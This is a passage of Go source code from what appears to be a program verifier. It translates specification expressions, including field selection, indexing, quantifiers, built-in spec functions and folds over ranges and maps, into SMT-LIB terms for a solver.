					return Val{S: p.S, Typ: types.NewPointer(o.Type()), Loc: p.Loc}
				}
				return v
			}
		}
	}
	return fr.specErr("unsupported package object %s.%s", pkg.Name(), name)
}

func sBigStr(s string) string {
	if strings.HasPrefix(s, "-") {
		return "(- " + s[1:] + ")"
	}
	return s
}

// specFieldLoc resolves base.name to a location (following embedded fields)
func (fr *Frame) specFieldLoc(base Val, name string) (*Loc, types.Type, bool) {
	t := base.Typ
	if t == nil {
		return nil, nil, false
	}
	var l *Loc
	var st types.Type
	if pt, ok := t.Underlying().(*types.Pointer); ok {
		st = pt.Elem()
		l = fr.locOf(base)
	} else {
		return nil, nil, false
	}
	obj, path, _ := types.LookupFieldOrMethod(st, true, nil, name)
	if obj == nil {
		// unexported field from another package: look it up with the defining package
		if n, ok := types.Unalias(st).(*types.Named); ok && n.Obj().Pkg() != nil {
			obj, path, _ = types.LookupFieldOrMethod(st, true, n.Obj().Pkg(), name)
		}
	}
	if obj == nil {
		for _, pk := range fr.fc.eng.pkgs {
			obj, path, _ = types.LookupFieldOrMethod(st, true, pk.Types, name)
			if obj != nil {
				break
			}
		}
	}
	fv, ok := obj.(*types.Var)
	if !ok || !fv.IsField() {
		return nil, nil, false
	}
	cur := l
	curT := st
	for _, idx := range path {
		su, ok := curT.Underlying().(*types.Struct)
		if !ok {
			// embedded pointer: load it
			return nil, nil, false
		}
		f := su.Field(idx)
		cur = fr.fieldOf(cur, f)
		curT = f.Type()
	}
	return cur, curT, true
}

func (fr *Frame) specField(base Val, name string, env *SpecEnv) Val {
	if base.IsAg {
		if su, ok := base.Typ.Underlying().(*types.Struct); ok {
			for i := 0; i < su.NumFields(); i++ {
				if su.Field(i).Name() == name && i < len(base.Agg) {
					return base.Agg[i]
				}
			}
		}
		return fr.specErr("no field %s in aggregate", name)
	}
	l, ft, ok := fr.specFieldLoc(base, name)
	if !ok {
		return fr.specErr("cannot select .%s on %v", name, base.Typ)
	}
	if l.Kind == LObj || l.Kind == LElemObj {
		// embedded struct / big.Int: pointer-like view
		v := Val{Typ: types.NewPointer(ft), Loc: l}
		if l.Path == "" {
			v.S = l.Base
		}
		return v
	}
	v := fr.loadLoc(fr.state(env), l)
	v.Typ = ft
	return v
}

func (fr *Frame) specIndex(base, idx Val, env *SpecEnv) Val {
	fc := fr.fc
	st := fr.state(env)
	if base.Typ == nil {
		return fr.specErr("index on untyped value")
	}
	switch u := base.Typ.Underlying().(type) {
	case *types.Slice:
		el := u.Elem()
		s := fr.scalar(base)
		if _, isStruct := el.Underlying().(*types.Struct); isStruct && !isBigInt(el) {
			return Val{Typ: types.NewPointer(el), Loc: &Loc{Kind: LElemObj, Base: sApp("sl_arr", s), Idx: sApp("+", sApp("sl_off", s), fr.scalar(idx)), Root: el, Elem: el}}
		}
		h := heapElem(el)
		fc.regVar(h, arr2Sort(sortOf(el)))
		return Val{S: fc.rd2(st, h, sApp("sl_arr", s), sApp("+", sApp("sl_off", s), fr.scalar(idx))), Typ: el}
	case *types.Map:
		return Val{S: fr.mapValue(st, base.Typ, fr.scalar(base), fr.scalar(idx)), Typ: u.Elem()}
	case *types.Pointer:
		if at, ok := u.Elem().Underlying().(*types.Array); ok {
			el := at.Elem()
			h := heapElem(el)
			fc.regVar(h, arr2Sort(sortOf(el)))
			return Val{S: fc.rd2(st, h, fr.ptrTerm(base), fr.scalar(idx)), Typ: el}
		}
	}
	return fr.specErr("cannot index %v", base.Typ)
}

func (fr *Frame) specBin(x *EBin, env *SpecEnv) Val {
	switch x.Op {
	case "==>":
		return Val{S: sImp(fr.evalBool(x.X, env.flip()), fr.evalBool(x.Y, env)), Typ: tBool}
	case "<==>":
		return Val{S: sEq(fr.evalBool(x.X, env.unknownPol()), fr.evalBool(x.Y, env.unknownPol())), Typ: tBool}
	case "&&":
		return Val{S: sAnd(fr.evalBool(x.X, env), fr.evalBool(x.Y, env)), Typ: tBool}
	case "||":
		return Val{S: sOr(fr.evalBool(x.X, env), fr.evalBool(x.Y, env)), Typ: tBool}
	}
	a := fr.evalSpec(x.X, env)
	b := fr.evalSpec(x.Y, env)
	as, bs := fr.scalar(a), fr.scalar(b)
	switch x.Op {
	case "==":
		return Val{S: sEq(as, bs), Typ: tBool}
	case "!=":
		return Val{S: sNot(sEq(as, bs)), Typ: tBool}
	case "<", "<=", ">", ">=":
		return Val{S: sApp(x.Op, as, bs), Typ: tBool}
	case "+", "-", "*":
		return Val{S: sApp(x.Op, as, bs), Typ: tInt}
	case "/":
		return Val{S: sApp("div", as, bs), Typ: tInt}
	case "%":
		return Val{S: sApp("mod", as, bs), Typ: tInt}
	}
	return fr.specErr("operator %s", x.Op)
}

func (fr *Frame) specQuant(q *EQuant, env *SpecEnv) Val {
	fc := fr.fc
	fc.qcount++
	bv := fmt.Sprintf("qv%dx_%s", fc.qcount, q.Var)
	// a universal in positive position of a goal (or an existential in negative position) is skolemised
	skolem := env.goal && !env.nopol && env.sks != nil && ((q.All && !env.neg) || (!q.All && env.neg))
	if skolem {
		bv = fc.freshConst("sk_"+q.Var, "Int")
		*env.sks = append(*env.sks, bv)
	}
	var rng string
	var vt types.Type = tInt
	var consts []string
	qkind := 0
	switch q.Kind {
	case "range":
		qkind = kIdx
		lo := fr.scalar(fr.evalSpec(q.Lo, env.unknownPol()))
		hi := fr.scalar(fr.evalSpec(q.Hi, env.unknownPol()))
		rng = sAnd(sApp("<=", lo, bv), sApp("<", bv, hi))
		if a, ok := numeral(lo); ok {
			if b, ok := numeral(hi); ok && b-a <= 16 {
				for x := a; x < b; x++ {
					consts = append(consts, fmt.Sprint(x))
				}
			}
		}
	case "dom":
		m := fr.evalSpec(q.Dom, env.unknownPol())
		mp, ok := m.Typ.Underlying().(*types.Map)
		if !ok {
			return fr.specErr("dom() of non-map")
		}
		vt = mp.Key()
		qkind = kKey
		rng = fr.mapPresent(fr.state(env), m.Typ, fr.scalar(m), bv)
	case "int":
		rng = "true"
	}
	benv := env.withBound(q.Var, Val{S: bv, Typ: vt})
	if skolem {
		if fc.skKind == nil {
			fc.skKind = map[string]int{}
		}
		body := fr.evalBool(q.Body, benv)
		fc.skKind[bv] = mixedKind(qkind, body, bv)
		if fc.skKind[bv] != qkind {
			fc.hasMixedQuant = true
		}
		if q.All {
			return Val{S: sImp(rng, body), Typ: tBool}
		}
		return Val{S: sAnd(rng, body), Typ: tBool}
	}
	// the quantifier stays: nothing inside it may be skolemised or recorded
	record := !env.goal && !env.nopol && env.qs != nil && q.All && !env.neg
	var children []QInst
	if record {
		benv.qs = &children
	} else {
		benv.nopol = true
		benv.qs = nil
	}
	benv.sks = nil
	body := fr.evalBool(q.Body, benv)
	if q.All {
		full := sImp(rng, body)
		var str string
		if pats := innermostReads(full, bv); len(pats) > 0 && len(pats) <= 4 {
			str = fmt.Sprintf("(forall ((%s Int)) (! %s :pattern (%s)))", bv, full, strings.Join(pats, " "))
		} else {
			str = fmt.Sprintf("(forall ((%s Int)) %s)", bv, full)
		}
		if record {
			mk := mixedKind(qkind, body, bv)
			if mk != qkind {
				fc.hasMixedQuant = true
			}
			*env.qs = append(*env.qs, QInst{Forall: str, Var: bv, Inst: full, Children: children, Consts: consts, Kind: mk})
		}
		return Val{S: str, Typ: tBool}
	}
	return Val{S: fmt.Sprintf("(exists ((%s Int)) %s)", bv, sAnd(rng, body)), Typ: tBool}
}

func (fr *Frame) specCall(c *ECall, env *SpecEnv) Val {
	fc := fr.fc
	st := fr.state(env)
	argv := func(i int) Val { return fr.evalSpec(c.Args[i], env) }
	arg := func(i int) string { return fr.scalar(argv(i)) }
	nargs := len(c.Args)
	need := func(n int) bool {
		if nargs != n {
			fr.specErr("%s expects %d arguments", c.Fn, n)
			return false
		}
		return true
	}
	switch c.Fn {
	case "len":
		if !need(1) {
			break
		}
		v := argv(0)
		switch v.Typ.Underlying().(type) {
		case *types.Slice:
			return Val{S: sApp("sl_len", fr.scalar(v)), Typ: tInt}
		case *types.Map:
			fr.regMap(v.Typ)
			m := fr.scalar(v)
			row := fc.rd(st, heapMapP(v.Typ), m)
			fr.cardFacts(row)
			return Val{S: sIte(sEq(m, "0"), "0", sApp("card", row)), Typ: tInt}
		case *types.Basic:
			return Val{S: sApp("strlen", fr.scalar(v)), Typ: tInt}
		}
		return fr.specErr("len of %v", v.Typ)
	case "cap":
		return Val{S: sApp("sl_cap", arg(0)), Typ: tInt}
	case "val":
		if !need(1) {
			break
		}
		v := argv(0)
		return Val{S: fr.bv(st, fr.ptrTerm(v)), Typ: tInt}
	case "ghost":
		// ghost(name): value recorded by a `ghost at <callee> name: expr` clause (unconstrained before the first
		// matching call)
		if !need(1) {
			break
		}
		id, ok := c.Args[0].(*EIdent)
		if !ok {
			return fr.specErr("ghost() expects a name")
		}
		fc.regVar("$ghost:"+id.Name, "Int")
		return Val{S: fc.get(st, "$ghost:"+id.Name), Typ: tInt}
	case "xmltext":
		// the text delivered by the last XML decoding into a single-string destination (ghost set by the model of
		// encoding/xml); unconstrained if no such decoding happened
		fc.regVar("$xmltext", "Int")
		return Val{S: fc.get(st, "$xmltext"), Typ: types.Typ[types.String]}
	case "strnum", "strnumok":
		// the number denoted by a string in the given base, and whether the string is such a numeral (the
		// uninterpreted functions behind big.Int.SetString)
		if !need(2) {
			break
		}
		if !fc.declSet["fun:strnum"] {
			fc.declSet["fun:strnum"] = true
			fc.decls = append(fc.decls, "(declare-fun strnum (Int Int) Int)")
			fc.decls = append(fc.decls, "(declare-fun strnumok (Int Int) Bool)")
		}
		if c.Fn == "strnumok" {
			return Val{S: sApp("strnumok", arg(0), arg(1)), Typ: tBool}
		}
		return Val{S: sApp("strnum", arg(0), arg(1)), Typ: tInt}
	case "deref":
		// deref(p): the value a pointer to a scalar (boxed) value points to
		if !need(1) {
			break
		}
		pv := argv(0)
		pt, ok := pv.Typ.Underlying().(*types.Pointer)
		if !ok {
			return fr.specErr("deref() of non-pointer")
		}
		h := heapBox(pt.Elem())
		fc.regVar(h, arrSort(sortOf(pt.Elem())))
		return Val{S: fc.rd(st, h, fr.ptrTerm(pv)), Typ: pt.Elem()}
	case "in":
		if !need(2) {
			break
		}
		m := argv(0)
		if _, ok := m.Typ.Underlying().(*types.Map); !ok {
			return fr.specErr("in() on non-map")
		}
		return Val{S: fr.mapPresent(st, m.Typ, fr.scalar(m), arg(1)), Typ: tBool}
	case "seen":
		// seen(k): key already visited by the map range of the current loop
		if env.header == nil {
			return fr.specErr("seen() outside loop invariant")
		}
		bestNx := fr.loopIterator(env)
		if bestNx != nil {
			it := fr.scalar(fr.val(bestNx.Iter))
			fc.regVar(hIter, arr2Sort("Bool"))
			return Val{S: sSel(fc.rd(st, hIter, it), arg(0)), Typ: tBool}
		}
		return fr.specErr("seen(): loop header has no map iterator")
	case "pow2":
		return Val{S: fr.pow2(arg(0)), Typ: tInt}
	case "pow":
		if !need(3) {
			break
		}
		return Val{S: sApp("powmod", arg(0), arg(1), arg(2)), Typ: tInt}
	case "bitlen":
		return Val{S: fr.bitlenOf(arg(0)), Typ: tInt}
	case "abs":
		return Val{S: sApp("absI", arg(0)), Typ: tInt}
	case "isprime":
		return Val{S: sApp("isprime", arg(0)), Typ: tBool}
	case "hasinv":
		return Val{S: sApp("hasinv", arg(0), arg(1)), Typ: tBool}
	case "inv":
		return Val{S: sApp("minv", arg(0), arg(1)), Typ: tInt}
	case "gcd":
		return Val{S: sApp("gcdf", arg(0), arg(1)), Typ: tInt}
	case "prod":
		// the product as the program's own big.Int / machine multiplications are modelled (uninterpreted for two
		// non-literal factors unless the contract is nonlinear): lets a post-condition name a value computed by Mul
		return Val{S: fr.mulTerm(arg(0), arg(1)), Typ: tInt}
	case "rem":
		// Euclidean remainder as big.Int.Mod is modelled (uninterpreted for a non-literal modulus)
		return Val{S: fr.divTerm("mod", arg(0), arg(1)), Typ: tInt}
	case "jacobi":
		return Val{S: sApp("jacobi", arg(0), arg(1)), Typ: tInt}
	case "sha256", "os2ip", "bytelen":
		return Val{S: sApp(c.Fn, arg(0)), Typ: tInt}
	case "bytes":
		// abstract content of a byte slice
		return Val{S: fr.bseqOf(st, argv(0)), Typ: tInt}
	case "ite":
		if !need(3) {
			break
		}
		cnd := fr.evalBool(c.Args[0], env.unknownPol())
		a, b := argv(1), argv(2)
		r := Val{S: sIte(cnd, fr.scalar(a), fr.scalar(b)), Typ: a.Typ}
		return r
	case "b2i":
		return Val{S: sIte(fr.evalBool(c.Args[0], env.unknownPol()), "1", "0"), Typ: tInt}
	case "fresh":
		// allocated after the pre-state
		v := argv(0)
		fc.regVar(hAlloc, "Int")
		t := fr.ptrTermOrSlice(v)
		return Val{S: sAnd(sApp(">", t, fc.get(env.old, hAlloc)), sApp(">", t, "0")), Typ: tBool}
	case "allocated":
		v := argv(0)
		fc.regVar(hAlloc, "Int")
		t := fr.ptrTermOrSlice(v)
		return Val{S: sApp("<=", t, fc.get(st, hAlloc)), Typ: tBool}
	case "arr":
		return Val{S: sApp("sl_arr", arg(0)), Typ: tInt}
	case "ref":
		return Val{S: fr.ptrTerm(argv(0)), Typ: tInt}
	case "wrapU64", "wrapI64", "tdiv", "trem":
		var as []string
		for i := range c.Args {
			as = append(as, arg(i))
		}
		return Val{S: sApp(c.Fn, as...), Typ: tInt}
	case "typetag":
		if id, ok := c.Args[0].(*EStr); ok {
			t := fc.eng.resolveType(env.pkg, id.V)
			if t != nil {
				return Val{S: fmt.Sprint(fc.eng.typeTag(t)), Typ: tInt}
			}
		}
		return fr.specErr("typetag")
	case "itype", "ipay":
		return Val{S: sApp(c.Fn, arg(0)), Typ: tInt}
	case "ismathbig":
		t := types.NewPointer(fc.eng.mathBigInt())
		return Val{S: sAnd(sEq(sApp("itype", arg(0)), fmt.Sprint(fc.eng.typeTag(t))), sNot(sEq(sApp("ipay", arg(0)), "0"))), Typ: tBool}
	case "mbval":
		return Val{S: fr.bv(st, sApp("ipay", arg(0))), Typ: tInt}
	case "dercodes":
		if fc.lastMarshal == nil {
			return fr.specErr("dercodes(): no asn1.Marshal call seen")
		}
		return Val{S: sSel(fc.lastMarshal.codes, arg(0)), Typ: tInt}
	}
	if sn, ok := specNatives[c.Fn]; ok && sn.n == nargs {
		fr.specNative(c.Fn)
		var as []string
		for i := range c.Args {
			as = append(as, arg(i))
		}
		t := tInt
		if sn.isB {
			t = tBool
		}
		if sn.n == 0 {
			return Val{S: "u_" + c.Fn, Typ: t}
		}
		return Val{S: sApp("u_"+c.Fn, as...), Typ: t}
	}
	if fd, ok := fc.eng.cs.Folds[c.Fn]; ok {
		return fr.specFold(fd, c, env)
	}
	// predicates
	if p, ok := fc.eng.cs.Preds[c.Fn]; ok {
		if len(p.Params) != nargs {
			return fr.specErr("pred %s expects %d args", c.Fn, len(p.Params))
		}
		n := *env
		n.bound = map[string]Val{}
		for k, v := range env.bound {
			n.bound[k] = v
		}
		// preds see only their parameters (plus bound vars) to avoid capture
		n.vars = map[string]Val{}
		for i, pn := range p.Params {
			n.bound[pn] = argv(i)
		}
		for _, pk := range fc.eng.pkgs {
			if pk.PkgPath == p.Pkg {
				n.pkg = pk.Types
			}
		}
		n.header = nil
		r := fr.evalSpec(p.Body, &n)
		// a large integer-valued predicate (a formula such as the reconstructed Z-hat) gets a name: the definition
		// is one fact, selected only for obligations that mention the name, instead of a term of several
		// kilobytes in every fact that uses the value
		if !r.IsAg && r.Typ != nil && sortOf(r.Typ) == "Int" && len(r.S) > 300 && !reBoundVar.MatchString(r.S) {
			if fc.abbrev == nil {
				fc.abbrev = map[string]string{}
			}
			c, ok := fc.abbrev[r.S]
			if !ok {
				c = fc.freshConst("pv_"+c0(p.Name), "Int")
				fc.abbrev[r.S] = c
				fc.permFact(sEq(c, r.S))
			}
			r.S = c
		}
		return r
	}
	// declared uninterpreted functions
	if ar, ok := fc.eng.cs.Uninterp[c.Fn]; ok && ar == nargs {
		fr.declUninterp(c.Fn, nargs, "Int")
		var as []string
		for i := range c.Args {
			as = append(as, arg(i))
		}
		if nargs == 0 {
			return Val{S: "u_" + c.Fn, Typ: tInt}
		}
		return Val{S: sApp("u_"+c.Fn, as...), Typ: tInt}
	}
	if ar, ok := fc.eng.cs.Uninterp[c.Fn+"?"]; ok && ar == nargs {
		fr.declUninterp(c.Fn, nargs, "Bool")
		var as []string
		for i := range c.Args {
			as = append(as, arg(i))
		}
		return Val{S: sApp("u_"+c.Fn, as...), Typ: tBool}
	}
	return fr.specErr("unknown spec function %s/%d", c.Fn, nargs)
}

func c0(name string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' {
			return r
		}
		return '_'
	}, name)
}

func (fr *Frame) ptrTermOrSlice(v Val) string {
	if v.Typ != nil {
		if _, ok := v.Typ.Underlying().(*types.Slice); ok {
			return sApp("sl_arr", fr.scalar(v))
		}
	}
	return fr.ptrTerm(v)
}

func (fr *Frame) declUninterp(name string, n int, res string) {
	fc := fr.fc
	k := "fun:u_" + name
	if fc.declSet[k] {
		return
	}
	fc.declSet[k] = true
	fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun u_%s (%s) %s)", name, strings.TrimSpace(strings.Repeat("Int ", n)), res))
}

// innermostReads returns the distinct innermost (select A I) subterms whose index I mentions the bound variable v
// and that contain no nested quantifier variable other than v. Used as a multi-pattern: it only fires when all
// the reads of an instance already exist, which avoids matching loops on bodies like P(a[j], a[j-1]).
func innermostReads(term, v string) []string {
	var out []string
	seen := map[string]bool{}
	var walk func(s string) bool // returns whether s contains a qualifying select
	mentions := func(s string) bool {
		i := 0
		for {
			j := strings.Index(s[i:], v)
			if j < 0 {
				return false
			}
			j += i
			end := j + len(v)
			beforeOK := j == 0 || strings.ContainsRune("( )", rune(s[j-1]))
			afterOK := end == len(s) || strings.ContainsRune("( )", rune(s[end]))
			if beforeOK && afterOK {
				return true
			}
			i = end
		}
	}
	walk = func(s string) bool {
		if !strings.HasPrefix(s, "(") {
			return false
		}
		args := splitSexpr(s)
		if len(args) == 0 {
			return false
		}
		if args[0] == "forall" || args[0] == "exists" || args[0] == "!" && false {
			// nested quantifier: do not look inside (its variables are not bound here)
			return false
		}
		found := false
		for _, a := range args[1:] {
			if walk(a) {
				found = true
			}
		}
		if found {
			return true
		}
		if args[0] == "select" && len(args) == 3 && mentions(args[2]) && !strings.Contains(s, "ite ") {
			if !seen[s] {
				seen[s] = true
				out = append(out, s)
			}
			return true
		}
		return false
	}
	walk(term)
	return out
}

// splitSexpr splits "(f a (g b) c)" into ["f", "a", "(g b)", "c"]
func splitSexpr(s string) []string {
	if len(s) < 2 || s[0] != '(' || s[len(s)-1] != ')' {
		return nil
	}
	s = s[1 : len(s)-1]
	var out []string
	depth := 0
	start := -1
	inBar := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '|' {
			inBar = !inBar
			if start < 0 {
				start = i
			}
			continue
		}
		if inBar {
			continue
		}
		switch c {
		case '(':
			if depth == 0 && start < 0 {
				start = i
			}
			depth++
		case ')':
			depth--
			if depth == 0 {
				out = append(out, s[start:i+1])
				start = -1
			}
		case ' ', '\t', '\n':
			if depth == 0 && start >= 0 {
				out = append(out, s[start:i])
				start = -1
			}
		default:
			if start < 0 {
				start = i
			}
		}
	}
	if start >= 0 {
		out = append(out, s[start:])
	}
	return out
}

// foldShape: how the running index of a fold maps to the value of the bound variable. Index folds use the index
// itself; the sequence form of a mapfold runs over the keys itkey(it, 0), itkey(it, 1), ... an iterator hands out.
type foldShape struct {
	suffix    string
	extra     []string // further Int arguments of the fold function (the iterator)
	probeOnly bool     // only find out which heaps the element reads
	keyOf     func(j string) string
	keyTyp    types.Type
	lo, hi    string
}

// the map iterator of the loop an invariant belongs to, or of the innermost enclosing loop that ranges over a map
func (fr *Frame) loopIterator(env *SpecEnv) *ssa.Next {
	if env.header == nil {
		return nil
	}
	var bestNx *ssa.Next
	bestSize := 1 << 30
	for _, li := range fr.loops {
		if !li.blocks[env.header.Index] {
			continue
		}
		for _, ins := range li.header.Instrs {
			if nx, ok := ins.(*ssa.Next); ok && len(li.blocks) < bestSize {
				bestNx, bestSize = nx, len(li.blocks)
			}
		}
	}
	return bestNx
}

// specFold: name(args..., lo, hi) = op over i in [lo,hi) of elem(args..., i), evaluated in the current state.
// The SMT term is an uninterpreted function of the heap versions the element expression reads, the arguments and
// the bounds; each created term comes with its one-step unfolding (empty range, and last element split off).
//
// A mapfold has two forms. name(args...) in a loop invariant is the fold over the keys the loop's map iterator has
// handed out so far, in that order. name(args..., m) is the fold over the key set of the map m; it is an
// uninterpreted function of the heaps, the arguments, the map and its key set, linked to the sequence form of every
// iterator over m that has run to its end while the key set stayed the same (a map range visits every key exactly
// once, and sums and products of integers do not depend on the order).
func (fr *Frame) specFold(fd *Fold, c *ECall, env *SpecEnv) Val {
	fc := fr.fc
	np := len(fd.Params) - 1
	st := fr.state(env)
	if !fd.Keys {
		if len(c.Args) != np+2 {
			return fr.specErr("fold %s expects %d arguments", fd.Name, np+2)
		}
		lo := fr.scalar(fr.evalSpec(c.Args[np], env))
		hi := fr.scalar(fr.evalSpec(c.Args[np+1], env))
		return fr.foldCore(fd, c.Args[:np], env, foldShape{keyOf: func(j string) string { return j }, keyTyp: tInt, lo: lo, hi: hi})
	}
	seqShape := func(it string, info mapIterInfo) foldShape {
		fc.regVar(hIterN, arrSort("Int"))
		return foldShape{suffix: "_seq", extra: []string{it}, keyTyp: info.mt.Underlying().(*types.Map).Key(),
			keyOf: func(j string) string { return sApp("itkey", it, j) }, lo: "0", hi: fc.rd(env.now, hIterN, it)}
	}
	switch len(c.Args) {
	case np:
		nx := fr.loopIterator(env)
		if nx == nil {
			return fr.specErr("mapfold %s without a map: only in the invariant of a loop that ranges over a map", fd.Name)
		}
		it := fr.scalar(fr.val(nx.Iter))
		info, ok := fc.mapIters[it]
		if !ok {
			return fr.specErr("mapfold %s: unknown iterator", fd.Name)
		}
		return fr.foldCore(fd, c.Args[:np], env, seqShape(it, info))
	case np + 1:
		mv := fr.evalSpec(c.Args[np], env)
		mt, ok := mv.Typ.Underlying().(*types.Map)
		if !ok || sortOf(mt.Key()) != "Int" {
			return fr.specErr("mapfold %s: last argument must be a map with integer-sorted keys", fd.Name)
		}
		m := fr.scalar(mv)
		fr.regMap(mv.Typ)
		prow := sSel(fc.get(st, heapMapP(mv.Typ)), m)
		// heaps read by the element at an arbitrary key
		kc := fc.freshConst("foldk", "Int")
		probe := fr.foldCore(fd, c.Args[:np], env, foldShape{suffix: "_probe", keyOf: func(string) string { return kc }, keyTyp: mt.Key(), lo: "0", hi: "0", probeOnly: true})
		_ = probe
		hterms, sorts, argTerms, elemAt := fc.lastFoldHeaps, fc.lastFoldSorts, fc.lastFoldArgs, fc.lastFoldElemAt
		fname := "folddom_" + fd.Name
		key := "fun:" + fname
		if !fc.declSet[key] {
			fc.declSet[key] = true
			fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (%s %s (Array Int Bool)) Int)", fname, strings.Join(sorts, " "), strings.TrimSpace(strings.Repeat("Int ", np+1))))
			fc.trusted["spec mapfold "+fd.Name+": "+fd.Src+" (a map range hands out every key of an unmodified map exactly once; integer sums and products, also products reduced modulo m at every step, do not depend on the order)"] = true
		}
		all := append(append([]string{}, hterms...), argTerms...)
		t := sApp(fname, append(all, m, prow)...)
		if !reBoundVar.MatchString(t) && !fc.declSet["folddom:"+t] {
			fc.declSet["folddom:"+t] = true
			// congruence with the same fold in other heap states: over the same key set, either the element at
			// some key differs or the folds are equal
			ck := fname + "|" + strings.Join(argTerms, ",") + "|" + m
			hkey := strings.Join(hterms, ",")
			for _, prev := range fc.foldTerms[ck] {
				if prev.heaps == hkey || len(prev.hlist) != len(hterms) {
					continue
				}
				w := fc.freshConst("foldw", "Int")
				e1 := prev.elemAt(w)
				e2 := elemAt(w)
				differs := sNot(sEq(e1, e2))
				if ds := readDiffs(e1, prev.hlist, hterms); len(ds) > 0 && len(ds) <= 12 {
					differs = sOr(ds...)
				}
				fc.addCandK(w, kKey)
				fc.permFact(sImp(sEq(prev.hi, prow), sOr(sAnd(sSel(prow, w), differs), sEq(prev.term, t))))
			}
			if fc.foldTerms == nil {
				fc.foldTerms = map[string][]foldRec{}
			}
			if len(fc.foldTerms[ck]) < 8 {
				fc.foldTerms[ck] = append(fc.foldTerms[ck], foldRec{term: t, hi: prow, heaps: hkey, hlist: append([]string{}, hterms...), elemAt: elemAt})
			}
		}
		if !reBoundVar.MatchString(t) {
			for _, it := range sortedKeys(fc.mapIters) {
				info := fc.mapIters[it]
				if !types.Identical(info.mt, mv.Typ) {
					continue
				}
				sh := seqShape(it, info)
				if fc.declSet["foldlink:"+it+":"+sh.hi+":"+t] {
					continue
				}
				fc.declSet["foldlink:"+it+":"+sh.hi+":"+t] = true
				seq := fr.foldCore(fd, c.Args[:np], env, sh)
				fc.permFact(sImp(sAnd(sApp("itdone", it), sEq(m, info.m), sEq(prow, info.mpRow)), sEq(seq.S, t)))
			}
		}
		return Val{S: t, Typ: tInt}
	}
	return fr.specErr("mapfold %s expects %d or %d arguments", fd.Name, np, np+1)
}

func (fr *Frame) foldCore(fd *Fold, args []Expr, env *SpecEnv, sh foldShape) Val {
	fc := fr.fc
	np := len(fd.Params) - 1
	benv := *env
	benv.bound = map[string]Val{}
	for k, v := range env.bound {
		benv.bound[k] = v
	}
	benv.vars = map[string]Val{}
	var argTerms []string
	for i := 0; i < np; i++ {
		v := fr.evalSpec(args[i], env)
		benv.bound[fd.Params[i]] = v
		argTerms = append(argTerms, fr.scalar(v))
	}
	paramTerms := append([]string{}, argTerms...)
	argTerms = append(argTerms, sh.extra...)
	for _, pk := range fc.eng.pkgs {
		if pk.PkgPath == fd.Pkg {
			benv.pkg = pk.Types
		}
	}
	benv.header = nil
	benv.nopol = true
	benv.qs = nil
	benv.sks = nil
	lo, hi := sh.lo, sh.hi
	ix := fd.Params[np]
	elemAt := func(t string) string {
		e2 := benv
		e2.bound = map[string]Val{}
		for k, v := range benv.bound {
			e2.bound[k] = v
		}
		e2.bound[ix] = Val{S: sh.keyOf(t), Typ: sh.keyTyp}
		// the size facts of bit lengths inside an element are not what a fold argument needs: the program's own
		// terms carry them, and elements at witness positions in several heap states would multiply them
		saveAux := fc.noAux
		fc.noAux = sh.suffix != ""
		defer func() { fc.noAux = saveAux }()
		return fr.scalar(fr.evalSpec(fd.Elem, &e2))
	}
	// which heaps does the element expression read?
	var rec []string
	saved := fc.recording
	fc.recording = &rec
	last := elemAt(sApp("-", hi, "1"))
	modTerm := ""
	if fd.Op == "mulmod" {
		e2 := benv
		modTerm = fr.scalar(fr.evalSpec(fd.Mod, &e2))
	}
	unit := "1"
	if fd.Op == "add" {
		unit = "0"
	}
	if fd.Init != nil {
		e2 := benv
		unit = fr.scalar(fr.evalSpec(fd.Init, &e2))
	}
	fc.recording = saved
	seen := map[string]bool{}
	var heaps []string
	for _, h := range rec {
		if !seen[h] && h != hAlloc {
			seen[h] = true
			heaps = append(heaps, h)
		}
	}
	sort.Strings(heaps)
	fname := "fold_" + fd.Name + sh.suffix
	var sorts []string
	var hterms []string
	st := fr.state(env)
	for _, h := range heaps {
		sorts = append(sorts, fc.sortOfVar(h))
		hterms = append(hterms, fc.get(st, h))
	}
	if sh.probeOnly {
		fc.lastFoldHeaps, fc.lastFoldSorts, fc.lastFoldArgs = hterms, sorts, paramTerms
		fc.lastFoldElemAt = func(k string) string {
			e2 := benv
			e2.bound = map[string]Val{}
			for kk, v := range benv.bound {
				e2.bound[kk] = v
			}
			e2.bound[ix] = Val{S: k, Typ: sh.keyTyp}
			saveAux := fc.noAux
			fc.noAux = true
			defer func() { fc.noAux = saveAux }()
			return fr.scalar(fr.evalSpec(fd.Elem, &e2))
		}
		return Val{S: "0", Typ: tInt}
	}
	key := "fun:" + fname
	if !fc.declSet[key] {
		fc.declSet[key] = true
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (%s %s) Int)", fname, strings.Join(sorts, " "), strings.TrimSpace(strings.Repeat("Int ", len(argTerms)+2))))
		fc.trusted["spec fold "+fd.Name+": "+fd.Src] = true
	}
	mk := func(a, b string) string {
		all := append(append([]string{}, hterms...), argTerms...)
		all = append(all, a, b)
		return sApp(fname, all...)
	}
	t := mk(lo, hi)
	// congruence with earlier terms of the same fold in other heap states: if the upper bounds agree, either
	// some element differs (witness w) or the folds are equal
	hkey := strings.Join(hterms, ",")
	register := func(term, hiTerm string) {
		if reBoundVar.MatchString(term) || fc.declSet["foldseen:"+term] {
			return
		}
		fc.declSet["foldseen:"+term] = true
		ck := fname + "|" + strings.Join(argTerms, ",")
		for _, prev := range fc.foldTerms[ck] {
			if prev.heaps == hkey {
				continue
			}
			w := fc.freshConst("foldw", "Int")
			e1 := prev.elemAt(w)
			e2 := elemAt(w)
			differs := sNot(sEq(e1, e2))
			if len(prev.hlist) == len(hterms) {
				if ds := readDiffs(e1, prev.hlist, hterms); len(ds) > 0 && len(ds) <= 12 {
					differs = sOr(ds...)
				}
			}
			fc.permFact(sImp(sAnd(sEq(prev.lo, lo), sEq(prev.hi, hiTerm)), sOr(sAnd(sApp("<=", lo, w), sApp("<", w, hiTerm), differs), sEq(prev.term, term))))
		}
		if fc.foldTerms == nil {
			fc.foldTerms = map[string][]foldRec{}
		}
		rec := foldRec{term: term, lo: lo, hi: hiTerm, heaps: hkey, hlist: append([]string{}, hterms...), elemAt: elemAt}
		if sh.suffix != "" {
			// folds over iteration sequences are compared with the most recent states only
			fc.foldTerms[ck] = append(fc.foldTerms[ck], rec)
			if n := len(fc.foldTerms[ck]); n > 3 {
				fc.foldTerms[ck] = fc.foldTerms[ck][n-3:]
			}
		} else if len(fc.foldTerms[ck]) < 8 {
